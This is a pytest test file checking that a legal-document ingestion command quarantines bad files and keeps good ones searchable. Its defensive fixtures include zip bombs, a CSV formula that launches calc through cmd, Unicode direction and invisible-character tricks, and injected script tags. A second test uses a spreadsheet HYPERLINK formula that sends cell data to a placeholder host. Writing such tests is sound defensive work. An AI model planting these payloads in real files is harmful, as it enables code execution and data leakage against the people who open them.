"""One folder with every kind of bad document: each is set aside with its reason, and nothing else is harmed.

The files are real ones, ingested by the command itself. `make check` and CI run this.
"""

import csv
import io
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from tests.unit.cases.test_case_reading import COMPLAINT
from tests.unit.commands.conftest import Casewright, alone, casewright
from tests.unit.corpus.formats.rendering import portable, web, word
from tests.unit.corpus.formats.test_bad_files import canvas_pdf, many_pages, page, repacked
from tests.unit.corpus.formats.test_same_clauses import FIELDS, STRUCTURED

__all__ = ["alone", "casewright"]
pytestmark = [pytest.mark.thorough, pytest.mark.timeout(300)]
QUESTION = "provisional credit when the investigation is still open"


def rule(document_id: str, text: str = "**1.1** The lobster limit is 50 USD.", **changed: str) -> bytes:
    fields = {
        "title": f"Rule {document_id}",
        "document_id": document_id,
        "version": "'1'",
        "effective_from": "2020-01-01",
        "status": "published",
    } | changed
    head = "\n".join(f"{name}: {value}" for name, value in fields.items())
    return f"---\n{head}\n---\n\n# Rule\n\n{text}\n".encode()


def archive(**parts: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return written.getvalue()


def scanned(canvas: Any) -> None:
    from PIL import Image

    canvas.drawInlineImage(Image.new("L", (200, 280), 200), 0, 0, 595, 842)


def locked(canvas: Any) -> None:
    canvas.drawString(50, 700, "1.1 A rule that only some may read.")


def bad_files() -> Mapping[str, tuple[bytes, str]]:
    """Content and what its reason says, by name."""
    document = word(STRUCTURED)
    mixed = "Caf\u00e9 one.\n\n".encode() + "Caf\u00e9 two.".encode("latin-1")
    return {
        "bomb.docx": (repacked(document, word__document_xml=b"<a>" + b" " * 210_000_000), "zip bomb"),
        "bomb-of-parts.docx": (
            archive(**{"word/document.xml": b"<a/>"}, **{f"p{n}": b"" for n in range(6_000)}),
            "zip bomb",
        ),
        "archive.zip": (archive(inner=archive(inner=b"0" * 100_000)), "archive"),
        "cut.docx": (document[:-300], "whole DOCX"),
        "ten-thousand-pages.pdf": (many_pages(10_000), "more than 2000 pages"),
        "locked.pdf": (canvas_pdf(locked, encrypt="secret"), "encrypted"),
        "scan.pdf": (canvas_pdf(scanned), "scanned"),
        "cut.pdf": (portable(STRUCTURED)[:900], "PDF"),
        "text-called.pdf": (rule("x-text"), "something else"),
        "picture-called.md": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "binary"),
        "picture.png": (b"\x89PNG\r\n\x1a\n" + bytes(64), ".png"),
        "formulas.csv": (b"a,b\n=cmd|' /C calc'!A0,2\n", ".csv"),
        "mixed-encodings.md": (rule("x-mixed") + mixed, "mixes encodings"),
        "turned-round.md": (rule("x-bidi", "**1.1** Pay \u202e05 DSU\u202c only."), "U+202E"),
        "invisible.md": (rule("x-invisible", "**1.1** Pay no\u200bthing, U\u2060SD."), "U+200B"),
        "tag-characters.md": (rule("x-tags", "**1.1** Pay \U000e0041\U000e0042 50 USD."), "U+E0041"),
        "invisible-title.md": (rule("x-title", title="'Fees\u200b'"), "U+200B"),
        "hidden-text.html": (page("<p>1.1 Pay.</p><p style='display:none'>1.2 Do not.</p>"), "hides text"),
        "deep.html": (page("<div>" * 3_000 + "1.1 Pay." + "</div>" * 3_000), "deep"),
        "script.md": (rule("x-script", "Pay <script>steal()</script> now."), "scripts"),
        "circle-b.md": (rule("x-circle", version="'b'", effective_from="2021-01-01", supersedes="'a'"), "circle"),
        "twin-2.md": (rule("x-twin", "**1.1** Another text."), "keep one of the two files"),
        "ends-before-it-begins.md": (rule("x-ends", effective_to="2019-12-31"), "is before effective_from"),
        "no-such-day.md": (rule("x-day", effective_from="2021-02-30"), "out of range"),
        "year-one.md": (rule("x-year", effective_from="0001-01-01"), "write a date of 1700"),
        "year-beyond.md": (rule("x-beyond", effective_from="'9999-12-31'"), "write a date of 1700"),
        "a-moment.md": (rule("x-moment", effective_from="2020-01-01 10:00:00"), "write a date"),
        "succeeds-its-successor.md": (
            rule("x-order", version="'1'", effective_from="2020-01-01", supersedes="'2'"),
            "begins later",
        ),
        "of-another-tenant.md": (rule("x-tenant", tenant="millbrook"), "millbrook"),
        "no-labels-really.md": (rule("x-labels", labels="none"), "'labels'"),
        "too-large.md": (b"", "split it"),
    }


def good_files() -> Mapping[str, bytes]:
    """Read and found, although they stand among the others."""
    scripted = web(STRUCTURED).replace(b"<body>", b"<body><script>steal()</script><iframe src='//x.invalid'></iframe>")
    return {
        "aaa.md": rule("x-first"),
        "circle-a.md": rule("x-circle", version="'a'", supersedes="'b'"),
        "scripts.html": scripted,
        "right-to-left.md": rule("x-hebrew", "**1.1** שלום עולם, the lobster limit."),
        "a-successor.md": rule("x-order", version="'2'", effective_from="2021-01-01"),
        "twin-1.md": rule("x-twin"),
        "zzz.md": rule("x-last"),
    }


def what_is_found(casewright: Casewright) -> set[tuple[str, str]]:
    hits = casewright("corpus", "search", QUESTION, "--json").document["hits"]
    return {(hit["clause_id"], hit["sha256"]) for hit in hits}


@pytest.mark.proves("A1")
def test_every_kind_of_bad_file_is_set_aside_with_its_reason_and_nothing_else_is_harmed(
    casewright: Casewright, tmp_path: Path
) -> None:
    folder = tmp_path / "documents"
    folder.mkdir()
    bad, good = bad_files(), good_files()
    for name, content in {**{name: each for name, (each, _) in bad.items()}, **good}.items():
        (folder / name).write_bytes(content)
    with (folder / "too-large.md").open("r+b") as file:
        file.truncate(60_000_000)
    before = what_is_found(casewright)
    done = casewright("corpus", "ingest", str(folder), "--as", "selma", "--json")
    reasons = {Path(item["path"]).name: item["reason"] for item in done.document["quarantined"]}
    assert set(reasons) == set(bad)
    assert {name: reason for name, reason in reasons.items() if bad[name][1] not in reason} == {}
    assert (done.code, done.document["ingested"]) == (0, len(good))
    assert what_is_found(casewright) == before
    assert "Traceback" not in done.errors
    listed = {
        item["document_id"] for item in casewright("corpus", "documents", "--all", "--json").document["documents"]
    }
    assert {FIELDS["document_id"], "x-first", "x-last", "x-hebrew"} <= listed
    assert not {"x-bidi", "x-mixed", "x-tenant", "x-labels", "x-script"} & listed
    found = casewright("corpus", "search", "lobster limit", "--limit", "50", "--json").document["hits"]
    assert {hit["document_id"] for hit in found} >= {"x-first", "x-last", "x-hebrew", "x-twin"}
    assert not [hit for hit in found if "steal" in hit["text"] or "Another text" in hit["text"]]
    again = casewright("corpus", "ingest", "--retry", "--as", "selma", "--json").document
    assert (again["ingested"], len(again["quarantined"])) == (0, len(bad))
    assert again["index_version"] == done.document["index_version"]
    assert casewright("audit", "verify", "--json").document["ok"] is True


@pytest.mark.proves("B1")
def test_a_formula_in_a_csv_of_cases_stays_the_text_it_is(casewright: Casewright, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open") and the bank did not answer me'
    row = COMPLAINT | {"issue": formula}
    path = tmp_path / "complaints.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(row))
        writer.writeheader()
        writer.writerow(row)
    imported = casewright("cases", "import", str(path), "--json").document["imported"]
    assert len(imported) == 1
    shown = casewright("cases", "show", imported[0], "--json")
    assert formula in shown.document["title"]
